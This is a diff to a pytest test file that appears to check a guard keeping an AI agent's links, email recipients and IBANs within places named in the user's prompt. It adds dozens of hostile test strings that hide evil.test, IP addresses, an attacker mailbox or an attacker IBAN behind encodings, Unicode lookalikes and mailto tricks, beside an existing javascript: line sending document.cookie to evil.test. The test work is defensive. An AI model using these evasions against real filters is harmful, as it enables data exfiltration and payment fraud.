@@ -2,10 +2,11 @@
 that are still the user's own.
 
 ``TRUSTED`` is the user's prompt: it names only ``corp.test``, ``bob@corp.test``, two links
-on ``corp.test`` and one IBAN. Each of ``HOSTILE`` points somewhere else (``evil.test``, an
-IP address, another mailbox, another account) however a reader resolves it, and hides that
-behind a trusted prefix, a decoding, a Unicode form or a grouping; each of ``LEGIT`` is a
-place of ``TRUSTED`` written differently, which a reader resolves to the same place.
+on ``corp.test``, ``press.corp.test`` and one IBAN. Each of ``HOSTILE`` points somewhere
+else (``evil.test``, an IP address, another mailbox, another account) however some reader
+resolves it, and hides that behind a trusted prefix, a decoding, a Unicode form or a
+grouping; each of ``LEGIT`` is a place of ``TRUSTED`` written differently, which a reader
+resolves to the same place.
 """
 
 from __future__ import annotations
@@ -13,8 +14,8 @@ from __future__ import annotations
 import pytest
 
 TRUSTED = ("Summarize my inbox and email the summary to bob@corp.test. Our site is "
-           "https://corp.test and the plan is at https://corp.test/plan; rent goes to "
-           "DE89 3704 0044 0532 0130 00.")
+           "https://corp.test and the plan is at https://corp.test/plan; the press team "
+           "is on press.corp.test; rent goes to DE89 3704 0044 0532 0130 00.")
 
 ATTACKER_IBAN = "GB11EVIL00000000666666"
 
@@ -38,6 +39,10 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("pipe", "https://corp.test|@evil.test/x"),
     ("comma", "https://corp.test,@evil.test/x"),
     ("no-break-space", "https://corp.test\u00a0@evil.test/x"),
+    ("tab", "https://corp.test\t@evil.test/x"),
+    ("line-break", "https://corp.test\n@evil.test/x"),
+    ("line-separator", "https://corp.test\u2028@evil.test/x"),
+    ("bidi-override", "https://corp.test\u202e@evil.test/x"),
     ("thin-space", "https://corp.test\u2009@evil.test/x"),
     ("ideographic-space", "https://corp.test\u3000@evil.test/x"),
     ("zero-width-space", "https://corp.test\u200b@evil.test/x"),
@@ -56,11 +61,16 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("backslash-slash-relative", "/\\evil.test/x"),
     ("upper-case", "HTTPS://EVIL.TEST/X"),
     ("javascript", "javascript:fetch('//evil.test/'+document.cookie)"),
+    ("json-escaped-slashes", "https:\\/\\/evil.test/x"),
+    ("encoded-slashes", "https:%2F%2Fevil.test/x"),
     # HTML character references, percent-encoding.
     ("html-decimal-colon", "https&#58;//evil.test/x"),
     ("html-hex-colon", "https&#x3a;//evil.test/x"),
     ("html-named-colon", "https&colon;//evil.test/x"),
     ("html-slashes", "https:&#47;&#47;evil.test/x"),
+    ("html-named-slashes", "https:&sol;&sol;evil.test/x"),
+    ("html-leading-zeros", "https&#0000058;//evil.test/x"),
+    ("html-no-semicolon", "https&#58//evil.test/x"),
     ("html-dot", "evil&#46;test/reset"),
     ("html-named-dot", "https://evil&period;test/x"),
     ("html-letter", "&#104;ttps://evil.test/x"),
@@ -79,6 +89,11 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("international", "https://\u00e9vil.test/x"),
     ("punycode", "https://xn--vil-9la.test/x"),
     ("cyrillic-e", "https://\u0435vil.test/x"),
+    ("math-bold", "\U0001d41e\U0001d42f\U0001d422\U0001d425.test/reset"),
+    ("circled", "\u24d4\u24e5\u24d8\u24db.test/reset"),
+    ("small-stop", "evil\ufe52test/reset"),
+    ("one-dot-leader", "evil\u2024test/reset"),
+    ("sharp-s", "https://pre\u00df.corp.test/x"),  # a newer browser: xn--pre-..., not press
     ("fullwidth-at", "mallory\uff20evil.test"),
     # IP addresses, every way a URL parser reads them.
     ("ipv4", "http://192.0.2.1/x"),
@@ -88,7 +103,13 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("ipv4-short", "http://192.513/x"),
     ("ipv6", "http://[2001:db8::1]/x"),
     ("ipv6-mapped", "http://[::ffff:192.0.2.1]/x"),
+    ("ipv4-trailing-dot", "http://192.0.2.1./x"),
+    ("ipv4-percent", "http://192%2e0%2e2%2e1/x"),
     ("bare-ipv4", "192.0.2.1/x"),
+    ("bare-ipv4-hex", "0xc0000201/x"),
+    ("bare-ipv4-decimal", "3221225985:8080/x"),
+    ("bare-ipv4-dotted-hex", "0xc0.0.2.1"),
+    ("bare-ipv6", "[2001:db8::1]/x"),
     # Email addresses: the domain mail is delivered to, and the whole address.
     ("email", "mallory@evil.test"),
     ("email-quoted-trusted", '"bob@corp.test"@evil.test'),
@@ -106,6 +127,8 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("email-ipv6-literal", "mallory@[IPv6:2001:db8::1]"),
     ("email-dotless", "mallory@evil"),
     ("email-angle", "Bob <mallory@evil.test>"),
+    ("email-comment", "bob(corp.test)@evil.test"),
+    ("email-source-route", "@evil.test:bob@corp.test"),
     # mailto: links: every recipient, in the path and in the headers.
     ("mailto-quoted-trusted", 'mailto:"bob@corp.test"@evil.test'),
     ("mailto-two", "mailto:bob@corp.test,mallory@evil.test"),
@@ -115,6 +138,8 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("mailto-bcc-encoded", "mailto:bob@corp.test?bcc=mallory%40evil.test"),
     ("mailto-after-body", "mailto:bob@corp.test?body=hi&to=mallory@evil.test"),
     ("mailto-upper", "MAILTO:mallory@evil.test"),
+    ("mailto-encoded-header", "mailto:bob@corp.test?%63c=mallory@evil.test"),
+    ("mailto-double-encoded", "mailto:bob@corp.test?cc=mallory%2540evil.test"),
     # Bare domains.
     ("bare", "evil.test/reset"),
     ("bare-host", "evil.test"),
@@ -123,6 +148,7 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("bare-longer", "corp.test.evil.test"),
     # What a renderer shows joined.
     ("tag-inside", "evil<b></b>.test/reset"),
+    ("comment-inside", "evil<!-- x -->.test/reset"),
     ("defanged", "evil[.]test/reset"),
     ("defanged-scheme", "hxxps://evil[.]test/x"),
     ("markdown-escape", "evil\\.test/reset"),
@@ -141,6 +167,12 @@ HOSTILE = [pytest.param(text, id=name) for name, text in [
     ("iban-zero-width", _spaced("\u200b")),
     ("iban-dashes", _spaced("-")),
     ("iban-en-dashes", _spaced("\u2013")),
+    ("iban-dots", _spaced(".")),
+    ("iban-slashes", _spaced("/")),
+    ("iban-underscores", _spaced("_")),
+    ("iban-middle-dots", _spaced("\u00b7")),
+    ("iban-line-break", _spaced("\n")),
+    ("iban-glued", "IBAN" + ATTACKER_IBAN),
     ("iban-lower", ATTACKER_IBAN.lower()),
     ("iban-fullwidth", "".join(chr(ord(c) + 0xFEE0) for c in ATTACKER_IBAN)),
     ("iban-trusted-run-on", "DE89 3704 0044 0532 0130 0012"),
@@ -154,6 +186,7 @@ LEGIT = [pytest.param(text, id=name) for name, text in [
     ("link-upper-host", "https://CORP.TEST/plan"),
     ("link-bare", "corp.test/plan"),
     ("host", "on corp.test"),
+    ("subdomain", "https://press.corp.test/"),
     ("email", "Write to bob@corp.test."),
     ("email-angle", "Bob <bob@corp.test>"),
     ("email-mailto", "mailto:bob@corp.test?subject=Inbox"),
